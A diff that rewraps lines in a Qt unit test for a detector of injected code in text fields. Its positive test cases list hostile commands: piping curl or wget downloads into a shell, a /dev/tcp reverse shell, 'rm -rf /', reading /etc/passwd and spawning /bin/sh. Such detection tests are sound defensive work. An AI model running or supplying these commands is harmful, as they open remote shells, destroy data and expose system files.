@@ -45,7 +45,8 @@ QStringList modelFiles(const QString& dir)
     QDirIterator it(testdata::path(dir), QDir::Files, QDirIterator::Subdirectories);
     while (it.hasNext()) {
         const QString f = it.next();
-        if (f.endsWith(".json") || f.endsWith(".md") || f.endsWith(".txt") || f.endsWith(".tsv") || f.endsWith(".expect"))
+        if (f.endsWith(".json") || f.endsWith(".md") || f.endsWith(".txt") || f.endsWith(".tsv")
+            || f.endsWith(".expect"))
             continue;
         out << f;
     }
@@ -112,7 +113,8 @@ private slots:
         QCOMPARE(j.value("calls").toArray().size(), int(want.size()));
         for (const auto& x : j.value("calls").toArray()) {
             const QJsonObject c = x.toObject();
-            QVERIFY(want.count({c.value("name").toString().toStdString(), c.value("finding").toString().toStdString()}));
+            QVERIFY(
+                want.count({c.value("name").toString().toStdString(), c.value("finding").toString().toStdString()}));
             QVERIFY(!c.value("via").toArray().isEmpty());
             QVERIFY(c.value("count").toInt() >= 1);
         }
@@ -164,13 +166,40 @@ private slots:
     {
         QTest::addColumn<QString>("text");
         QTest::addColumn<bool>("code");
-        const char* yes[] = {"import os; os.system('id')", "__import__('os').system('ls')", "curl http://x/a.sh | sh",
-            "wget -q -O- http://x | bash", "$(id)", "echo `id`", "a; rm -rf /", "x && cat /etc/passwd",
-            "from subprocess import call\ncall(\"id\")", "import pty;pty.spawn(\"/bin/sh\")", "exec(open('a').read())", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
-            "python3 -c 'print(1)'; sh", "eval(input())"};
-        const char* no[] = {"(?u)\\b\\w\\w+\\b", "l2", "auto", "latin1", "numpy.float64", "importance", "import",
-            "gini", "the; end", "a | b", "sqrt", "f8", "Tom & Jerry", "C:\\models\\x.pkl", "important words",
-            "SELECT a FROM t", "import dinner", "from time import sleep", "one;two", "https://example.com/x"};
+        const char* yes[] = {"import os; os.system('id')",
+                             "__import__('os').system('ls')",
+                             "curl http://x/a.sh | sh",
+                             "wget -q -O- http://x | bash",
+                             "$(id)",
+                             "echo `id`",
+                             "a; rm -rf /",
+                             "x && cat /etc/passwd",
+                             "from subprocess import call\ncall(\"id\")",
+                             "import pty;pty.spawn(\"/bin/sh\")",
+                             "exec(open('a').read())",
+                             "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
+                             "python3 -c 'print(1)'; sh",
+                             "eval(input())"};
+        const char* no[] = {"(?u)\\b\\w\\w+\\b",
+                            "l2",
+                            "auto",
+                            "latin1",
+                            "numpy.float64",
+                            "importance",
+                            "import",
+                            "gini",
+                            "the; end",
+                            "a | b",
+                            "sqrt",
+                            "f8",
+                            "Tom & Jerry",
+                            "C:\\models\\x.pkl",
+                            "important words",
+                            "SELECT a FROM t",
+                            "import dinner",
+                            "from time import sleep",
+                            "one;two",
+                            "https://example.com/x"};
         for (const char* s : yes)
             QTest::newRow(s) << QString(s) << true;
         for (const char* s : no)
